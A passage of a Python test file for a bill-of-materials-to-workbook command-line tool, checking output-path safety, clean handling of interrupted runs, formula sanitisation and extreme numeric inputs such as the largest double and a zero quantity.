                self.assertRegex(formula, r"^[A-Z$0-9:(),*+\-]+$")
                self.assertNotIn("HYPERLINK", formula)


class OutputSafety(CliTest):
    """An output path must never destroy an input or another output."""

    def test_output_is_the_bom(self):
        folder = small_job("safety-bom")
        bom = support.read_bytes(os.path.join(folder, "bom.csv"))
        result = support.run(job_args("bom.csv"), cwd=folder)
        self.assertStatus(result, USAGE)
        self.assertEqual(support.read_bytes(os.path.join(folder,
                                                         "bom.csv")), bom)

    def test_output_is_the_bom_other_spelling(self):
        folder = small_job("safety-bom-spelling")
        bom = support.read_bytes(os.path.join(folder, "bom.csv"))
        result = support.run(job_args("./bom.csv"), cwd=folder)
        self.assertStatus(result, USAGE)
        self.assertEqual(support.read_bytes(os.path.join(folder,
                                                         "bom.csv")), bom)

    def test_output_is_the_config(self):
        folder = small_job("safety-config")
        config = support.read_bytes(os.path.join(folder, "reshore.ini"))
        result = support.run(job_args("reshore.ini"), cwd=folder)
        self.assertStatus(result, USAGE)
        self.assertEqual(support.read_bytes(
            os.path.join(folder, "reshore.ini")), config)

    def test_detail_csv_is_the_workbook(self):
        folder = small_job("safety-detail")
        result = support.run(job_args() + ["--detail-csv", "out.xlsx"],
                             cwd=folder)
        self.assertStatus(result, USAGE)

    def test_detail_csv_folder_missing(self):
        # Status 3 means nothing written: the workbook must not be
        # written (or replaced) when the detail CSV cannot be.
        folder = small_job("safety-detail-folder")
        previous = make_previous(folder)
        result = support.run(job_args() + ["--detail-csv",
                                           "no/such/detail.csv"],
                             cwd=folder)
        self.assertStatus(result, FAILED)
        self.assertInStderr("no/such", result)
        self.assertEqual(support.read_bytes(os.path.join(folder,
                                                         "out.xlsx")),
                         previous, "the workbook was replaced")
        self.assertNoTempFiles(folder)

    def test_detail_csv_folder_missing_new_workbook(self):
        folder = small_job("safety-detail-new")
        result = support.run(job_args() + ["--detail-csv",
                                           "no/such/detail.csv"],
                             cwd=folder)
        self.assertStatus(result, FAILED)
        self.assertNoWorkbook(os.path.join(folder, "out.xlsx"), result)

    def test_interrupted_run_leaves_no_temp_file(self):
        folder = support.scratch("interrupt")
        bom = ["item;description;annual_quantity;unit_price"]
        bom += ["M-%04d;Deel %d;100;1,50" % (i, i) for i in range(300)]
        support.write_text(os.path.join(folder, "bom.csv"),
                           "\n".join(bom) + "\n")
        locations = ["location;country;freight_pct;duty_rate"]
        locations += ["L%03d;NL;2,5;0" % i for i in range(400)]
        support.write_text(os.path.join(folder, "locations.csv"),
                           "\n".join(locations) + "\n")
        support.write_text(os.path.join(folder, "reshore.ini"),
                           "[defaults]\ncurrent_location = L000\n")
        previous = make_previous(folder)
        process = support.start(job_args(), cwd=folder)
        deadline = time.monotonic() + 120
        while not support.temp_leftovers(folder):
            if process.poll() is not None or time.monotonic() > deadline:
                process.communicate()
                self.skipTest("the run ended before it could be "
                              "interrupted")
            time.sleep(0.005)
        process.send_signal(signal.SIGINT)
        process.communicate(timeout=120)
        self.assertNotEqual(process.returncode, OK)
        self.assertEqual(support.read_bytes(os.path.join(folder,
                                                         "out.xlsx")),
                         previous)
        self.assertNoTempFiles(folder)


def numeric_values(path):
    """Every <v> of every sheet part that is not a shared-string index,
    as text."""
    values = []
    with zipfile.ZipFile(path) as zf:
        for name in zf.namelist():
            if not name.startswith("xl/worksheets/sheet"):
                continue
            data = zf.read(name).decode("utf-8")
            for cell in re.finditer(r"<c [^>]*?(t=\"(\w+)\")?[^>]*>"
                                    r"(?:<f>[^<]*</f>)?<v>([^<]*)</v>",
                                    data):
                if cell.group(2) in ("s", "str", "b", "e"):
                    continue
                values.append(cell.group(3))
    return values


class HostileValues(CliTest):

    def test_largest_double_price(self):
        # 1.7976931348623157E+308 is the largest double. Either the row
        # is rejected, or every number in the workbook stays finite when
        # read back (Excel's own limit is about 1E+308).
        folder = small_job("largest-double")
        support.write_text(
            os.path.join(folder, "bom.csv"),
            "item;description;annual_quantity;unit_price\n"
            "P-1;Gewoon;10;1,50\n"
            "P-2;Grootst;1;1,7976931348623157E+308\n")
        result = support.run(job_args(), cwd=folder)
        self.assertIn(result.status, (OK, REJECTED), result.describe())
        out = os.path.join(folder, "out.xlsx")
        self.assertPackage(out)
        for value in numeric_values(out):
            self.assertTrue(math.isfinite(float(value)),
                            "cell value %s is not finite" % value)

    def test_zero_quantity_explained(self):
        # An item with a price and an annual quantity of 0 must either
        # be priced or come with a problem that names its line.
        folder = small_job("zero-quantity")
        support.write_text(
            os.path.join(folder, "bom.csv"),
            "item;description;annual_quantity;unit_price\n"
            "P-1;Gewoon;10;1,50\n"
            "P-2;Geen vraag;0;1,25\n")
        result = support.run(job_args(), cwd=folder)
        self.assertIn(result.status, (OK, REJECTED), result.describe())
        out = os.path.join(folder, "out.xlsx")
        priced = [r for r in support.detail(out)
                  if r["Item"] == "P-2" and r["Price basis"] != "unpriced"]
        explained = [p for p in support.problems(out)
                     if p["File"] == "bom.csv" and p["Line"] == 3]
        self.assertTrue(priced or explained,
                        "P-2 is unpriced without a problem on line 3\n"
                        + result.describe())


if __name__ == "__main__":
    support.main()
